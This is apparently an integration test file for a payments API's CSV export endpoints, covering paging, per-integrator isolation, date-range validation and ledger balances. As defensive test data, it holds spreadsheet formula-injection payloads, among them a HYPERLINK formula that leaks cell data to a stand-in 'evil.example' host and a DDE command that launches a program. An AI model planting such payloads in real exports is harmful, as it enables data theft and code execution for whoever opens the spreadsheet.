// CSV exports over HTTP, as an integrator and an operator download them: transfers, payments and balance movements of a
// period (more rows than one page: EXPORT_PAGE_SIZE is 3 here), each integrator seeing only its own rows, a
// beneficiary's rows alone, periods refused with the contract's JSON body before any CSV, `to` excluded to the
// microsecond, cells a spreadsheet would evaluate neutralised, running balances that end where GET balances does, the
// operator's journal balanced per currency. Backpressure and abandoned downloads: exports-streaming.test.ts.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { ConfigError, loadConfig } from '../../src/config/index.ts';
import { ADMIN_TOKEN, type TestApp, type TestIntegrator, type TestResponse } from '../helpers/app.ts';
import { createBeneficiary, individual, openLink, person, startWithReceiver, storedEvents } from '../helpers/beneficiaries.ts';
import { createContact, finalPayment, pay, paymentIn, simulate } from '../helpers/payments.ts';
import { approvedBeneficiary, assertTrialBalanceZero, balanceOf, onRamp } from '../helpers/transfers.ts';

const DAY_MS = 86_400_000;
const day = (offset: number): string => new Date(Date.now() + offset * DAY_MS).toISOString().slice(0, 10);
/** Yesterday to tomorrow: everything a test made, whatever the hour. */
const AROUND_NOW = `from=${day(-1)}&to=${day(1)}`;

type Row = Record<string, string>;

function rowsOf(response: TestResponse): Row[] {
  assert.equal(response.status, 200, response.text);
  return parse(response.text, { columns: true }) as Row[];
}

describe('CSV exports', () => {
  let t: TestApp;
  let integrator: TestIntegrator;
  let other: TestIntegrator;
  let close: () => Promise<void>;
  let first: Record<string, any>;
  let second: Record<string, any>;
  let foreign: Record<string, any>;
  const transfers: Array<Record<string, any>> = [];
  const foreignTransfers: Array<Record<string, any>> = [];

  const get = (path: string, token = integrator.token) => t.request('GET', path, { token });

  /** A beneficiary whose names and reference begin with characters a spreadsheet evaluates, approved. */
  async function hostileBeneficiary(): Promise<Record<string, any>> {
    const body = individual('=HYPERLINK("http://evil.example/?"&A1,"Click")', { person: person({ firstName: '@SUM(1+1)', lastName: '-2+3' }) });
    const created = await createBeneficiary(t, integrator, body);
    const [kyc] = await storedEvents(t, created.id, 'BENEFICIARY_KYC');
    for (const step of kyc.data.steps) assert.equal((await openLink(t.url + new URL(step.uploadLink).pathname)).status, 200);
    return created;
  }

  before(async () => {
    ({ t, integrator, close } = await startWithReceiver({ EXPORT_PAGE_SIZE: '3', SANDBOX_SETTLE_DELAY_MS: '50' }));
    other = await t.createIntegrator({ callbackUrl: `${t.url}/nowhere` });
    first = await approvedBeneficiary(t, integrator, 'export-first');
    second = await hostileBeneficiary();
    foreign = await approvedBeneficiary(t, other, 'export-foreign');
    for (const [beneficiary, value] of [
      [first, 100],
      [second, 200],
      [first, '300.50'],
      [second, 400],
      [first, 500],
      [first, 600],
      [second, 700],
    ] as const) {
      transfers.push(await onRamp(t, integrator, beneficiary, value));
    }
    for (const value of [150, 250]) foreignTransfers.push(await onRamp(t, other, foreign, value));
  });
  after(() => close());

  describe('transfers', () => {
    it('streams every transfer of the period, oldest first, over several pages, as an attachment', async () => {
      const response = await get(`/v1/exports/transfers?${AROUND_NOW}`);
      assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8');
      assert.equal(response.headers.get('content-disposition'), `attachment; filename="transfers_${day(-1)}_${day(1)}.csv"`);
      assert.equal(response.headers.get('cache-control'), 'no-store');
      assert.match(response.text, /\r\n$/, 'RFC 4180 records end with CRLF');
      const rows = rowsOf(response);
      assert.deepEqual(
        rows.map((row) => row.id),
        transfers.map((transfer) => transfer.id),
        'seven rows over three pages of three, none twice, none missed',
      );
      const [row] = rows;
      assert.deepEqual(
        { ...row },
        {
          id: transfers[0]!.id,
          createdDate: transfers[0]!.createdDate,
          lastModifiedDate: transfers[0]!.lastModifiedDate,
          type: 'ON_RAMP',
          fundingSource: '',
          status: 'PENDING',
          statusReason: '',
          beneficiaryId: first.id,
          integratorBeneficiaryId: 'export-first',
          beneficiaryName: 'Ana Souza',
          fromCurrency: 'BRL',
          fromValue: '100.00',
          toCurrency: 'USDC',
          toValue: transfers[0]!.to.value,
          exchangeRate: transfers[0]!.transactionDetails.conversionDetails.exchangeRate,
          feeCurrency: 'BRL',
          totalFees: transfers[0]!.transactionDetails.feeDetails.totalFees.value,
          integratorFee: transfers[0]!.transactionDetails.feeDetails.integratorFee.value,
          taxes: transfers[0]!.transactionDetails.taxes.value,
          effectiveTransactionValue: transfers[0]!.transactionDetails.conversionDetails.effectiveTransactionValue,
          simulationId: transfers[0]!.simulationId,
          transactionHash: '',
        },
      );
      assert.equal(rows[2]!.fromValue, '300.50', 'amounts are exact decimal strings');
    });

    it('shows each integrator its own transfers only', async () => {
      const theirs = rowsOf(await get(`/v1/exports/transfers?${AROUND_NOW}`, other.token));
      assert.deepEqual(
        theirs.map((row) => row.id),
        foreignTransfers.map((transfer) => transfer.id),
      );
      const ours = rowsOf(await get(`/v1/exports/transfers?${AROUND_NOW}`));
      assert.ok(ours.every((row) => !foreignTransfers.some((transfer) => transfer.id === row.id)));
    });

    it("narrows to one beneficiary, and answers 404 for another integrator's", async () => {
      const rows = rowsOf(await get(`/v1/exports/transfers?${AROUND_NOW}&beneficiaryId=${second.id}`));
      assert.deepEqual(
        rows.map((row) => row.id),
        transfers.filter((transfer) => transfer.beneficiaryId === second.id).map((transfer) => transfer.id),
      );
      const refused = await get(`/v1/exports/transfers?${AROUND_NOW}&beneficiaryId=${foreign.id}`);
      assert.equal(refused.status, 404);
      assert.equal(refused.body.code, 'beneficiary.not_found');
    });

    it('includes from and excludes to, to the microsecond', async () => {
      const middle = transfers[3]!;
      const upTo = rowsOf(await get(`/v1/exports/transfers?from=${day(-1)}&to=${encodeURIComponent(middle.createdDate)}`));
      // createdDate is written to the millisecond and the transfer was created later within it: it is after `to`.
      assert.deepEqual(
        upTo.map((row) => row.id),
        transfers.slice(0, 3).map((transfer) => transfer.id),
      );
      const fromOn = rowsOf(await get(`/v1/exports/transfers?from=${encodeURIComponent(middle.createdDate)}&to=${day(1)}`));
      assert.deepEqual(
        fromOn.map((row) => row.id),
        transfers.slice(3).map((transfer) => transfer.id),
      );
      // The same instant written in Brasília time.
      const local = new Date(new Date(middle.createdDate).getTime() - 3 * 3_600_000).toISOString().slice(0, 23) + '-03:00';
      const sameInstant = rowsOf(await get(`/v1/exports/transfers?from=${encodeURIComponent(local)}&to=${day(1)}`));
      assert.deepEqual(
        sameInstant.map((row) => row.id),
        fromOn.map((row) => row.id),
      );
    });

    it('writes only the header for a period without transfers', async () => {
      const response = await get('/v1/exports/transfers?from=2020-01-01&to=2020-02-01');
      assert.equal(response.status, 200);
      assert.match(response.text, /^"id","createdDate",.*"transactionHash"\r\n$/);
    });
  });

  describe('periods refused before any CSV', () => {
    const refusals: Array<[string, string, string | undefined]> = [
      [`to=${day(1)}`, 'validation.failed', '/query/from'],
      [`from=${day(-1)}`, 'validation.failed', '/query/to'],
      [`from=2026-02-30&to=2026-03-02`, 'validation.failed', '/query/from'],
      [`from=2026-01-01T10:00:00&to=2026-01-02`, 'validation.failed', '/query/from'],
      [`from=2026-01-01&to=yesterday`, 'validation.failed', '/query/to'],
      [`from=2026-01-01T25:00:00Z&to=2026-01-02`, 'validation.failed', '/query/from'],
      [`from=2026-01-02&to=2026-01-02`, 'export.invalid_range', undefined],
      [`from=2026-01-02&to=2026-01-01`, 'export.invalid_range', undefined],
      [`from=2025-01-01&to=2026-01-03`, 'export.invalid_range', undefined],
    ];
    for (const [query, code, path] of refusals) {
      it(`answers 400 ${code} for ${query}`, async () => {
        for (const kind of ['transfers', 'payments', 'balance-movements']) {
          const response = await get(`/v1/exports/${kind}?${query}`);
          assert.equal(response.status, 400, response.text);
          assert.match(response.headers.get('content-type') ?? '', /^application\/json/);
          assert.equal(response.headers.get('content-disposition'), null);
          assert.equal(response.body.code, code);
          assert.equal(response.body.requestId, response.headers.get('x-request-id'));
          if (path)
            assert.ok(
              response.body.errors.some((error: { path: string }) => error.path === path),
              response.text,
            );
        }
      });
    }

    it('takes a whole leap year, 366 days, and no more', async () => {
      assert.equal((await get('/v1/exports/transfers?from=2024-01-01&to=2025-01-01')).status, 200);
      assert.equal((await get('/v1/exports/transfers?from=2024-01-01&to=2025-01-01T00:00:00.001Z')).status, 400);
    });

    it('needs a token', async () => {
      const response = await t.request('GET', `/v1/exports/transfers?${AROUND_NOW}`);
      assert.equal(response.status, 401);
    });
  });

  describe('payments and balance movements', () => {
    let contact: Record<string, any>;
    let completed: Record<string, any>;
    let failed: Record<string, any>;

    before(async () => {
      contact = await createContact(t, integrator, second.id, { userInfo: { name: "+cmd|' /C calc'!A0" } });
      assert.equal((await paymentIn(t, integrator, second.id, contact.id, '100.00')).body.status, 'COMPLETED');
      const made: Array<Record<string, any>> = [];
      for (const [value, description] of [
        ['30.00', '=1+1'],
        ['20.13', '\tTab first'],
      ] as const) {
        const simulation = await simulate(t, integrator, second.id, value);
        assert.equal(simulation.status, 201, simulation.text);
        const payment = await pay(t, integrator, simulation.body.simulationId, contact.id, description);
        assert.equal(payment.status, 201, payment.text);
        made.push(await finalPayment(t, integrator, payment.body.id));
      }
      [completed, failed] = made as [Record<string, any>, Record<string, any>];
      assert.equal(completed.status, 'COMPLETED');
      assert.equal(failed.status, 'FAILED');
    });

    it('exports payments with exact amounts, and neutralises every cell a spreadsheet would evaluate', async () => {
      const response = await get(`/v1/exports/payments?${AROUND_NOW}`);
      const rows = rowsOf(response);
      assert.deepEqual(
        rows.map((row) => row.id),
        [completed.id, failed.id],
      );
      const [one, two] = rows as [Row, Row];
      assert.equal(one.description, "'=1+1");
      assert.equal(two.description, "'\tTab first");
      assert.equal(one.contactName, "'+cmd|' /C calc'!A0");
      assert.equal(one.beneficiaryName, "'@SUM(1+1) -2+3");
      assert.equal(one.integratorBeneficiaryId, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
      assert.deepEqual(
        [one.amountCurrency, one.amount, one.feesCurrency, one.fees, one.totalAmountCurrency, one.totalAmount, one.status],
        ['USDC', '30.00', 'USD', '2.00', 'USD', '28.00', 'COMPLETED'],
      );
      assert.equal(two.failureReason !== '', true);
      // Raw: each text cell quoted, so a quote or a comma inside stays in its cell.
      assert.ok(response.text.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`), response.text);
      const theirs = rowsOf(await get(`/v1/exports/payments?${AROUND_NOW}`, other.token));
      assert.deepEqual(theirs, []);
    });

    it('exports every balance movement with the balance and available balance after it', async () => {
      const rows = rowsOf(await get(`/v1/exports/balance-movements?${AROUND_NOW}&beneficiaryId=${second.id}`));
      const summary = rows.map((row) => [row.type, row.amount, row.balanceChange, row.balanceAfter, row.availableAfter, row.reference]);
      assert.deepEqual(summary, [
        ['CREDIT', '100.00', '100.00', '100.00', '100.00', summary[0]![5]],
        ['HOLD', '30.00', '0.00', '100.00', '70.00', `payment:${completed.id}`],
        ['HOLD_CAPTURED', '30.00', '-30.00', '70.00', '70.00', `payment:${completed.id}`],
        ['HOLD', '20.13', '0.00', '70.00', '49.87', `payment:${failed.id}`],
        ['HOLD_RELEASED', '20.13', '0.00', '70.00', '70.00', `payment:${failed.id}`],
      ]);
      assert.match(summary[0]![5]!, /^payment_in:/);
      assert.ok(rows.every((row) => row.currency === 'USDC' && row.beneficiaryId === second.id));
      assert.equal(rows[2]!.balanceChange, '-30.00', 'a signed amount is left as a number');
      const balance = await balanceOf(t, integrator, second.id);
      assert.deepEqual([rows.at(-1)!.balanceAfter, rows.at(-1)!.availableAfter], [balance.total, balance.available]);
      // The times are the ledger's, in order.
      const times = rows.map((row) => row.occurredAt);
      assert.deepEqual([...times].sort(), times);
    });

    it('starts the running balance from what the wallet held when the period began', async () => {
      const all = rowsOf(await get(`/v1/exports/balance-movements?${AROUND_NOW}&beneficiaryId=${second.id}`));
      const start = all[2]!.occurredAt!;
      const later = rowsOf(await get(`/v1/exports/balance-movements?from=${encodeURIComponent(start)}&to=${day(1)}&beneficiaryId=${second.id}`));
      // From the capture on (included, `from` being its time): the same rows with the same balances, opened from the ledger.
      assert.deepEqual(later, all.slice(2));
    });

    it("shows each integrator its own beneficiaries' movements only", async () => {
      const rows = rowsOf(await get(`/v1/exports/balance-movements?${AROUND_NOW}`));
      assert.deepEqual([...new Set(rows.map((row) => row.beneficiaryId))], [second.id]);
      assert.deepEqual(rowsOf(await get(`/v1/exports/balance-movements?${AROUND_NOW}`, other.token)), []);
      assert.equal((await get(`/v1/exports/balance-movements?${AROUND_NOW}&beneficiaryId=${second.id}`, other.token)).status, 404);
    });

    it("exports the operator's journal: every posting, debits equal to credits in each currency", async () => {
      assert.equal((await get(`/v1/admin/exports/journal?${AROUND_NOW}`)).status, 403, 'an integrator token is not the operator');
      const response = await get(`/v1/admin/exports/journal?${AROUND_NOW}`, ADMIN_TOKEN);
      assert.equal(response.headers.get('content-disposition'), `attachment; filename="journal_${day(-1)}_${day(1)}.csv"`);
      const rows = rowsOf(response);
      const totals = new Map<string, bigint>();
      const cents = (text: string) => (text === '' ? 0n : BigInt(text.replace('.', '')));
      for (const row of rows) {
        assert.ok((row.debit === '') !== (row.credit === ''), 'each posting is a debit or a credit');
        totals.set(row.currency!, (totals.get(row.currency!) ?? 0n) + cents(row.debit!) - cents(row.credit!));
      }
      assert.ok(rows.length > 3, 'more entries than one page');
      for (const [currency, total] of totals) assert.equal(total, 0n, `${currency} balances`);
      const capture = rows.filter((row) => row.reference === `payment:${completed.id}` && row.accountKind === 'beneficiary_wallet');
      assert.equal(capture.length, 1);
      assert.deepEqual([capture[0]!.debit, capture[0]!.accountOwnerId, capture[0]!.integratorId], ['30.00', second.id, integrator.id]);
      const entries = [...new Set(rows.map((row) => row.entryId))];
      const stored = await t.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM ledger_entries`);
      assert.equal(entries.length, stored[0]!.n, 'every entry of the period, once');
      await assertTrialBalanceZero(t);
    });
  });

  it('reads EXPORT_PAGE_SIZE, 500 unless set, from 1 to 10000', () => {
    assert.equal(loadConfig({}).exportPageSize, 500);
    assert.equal(loadConfig({ EXPORT_PAGE_SIZE: '10000' }).exportPageSize, 10_000);
    for (const value of ['0', '10001', 'many']) assert.throws(() => loadConfig({ EXPORT_PAGE_SIZE: value }), ConfigError);
  });
});
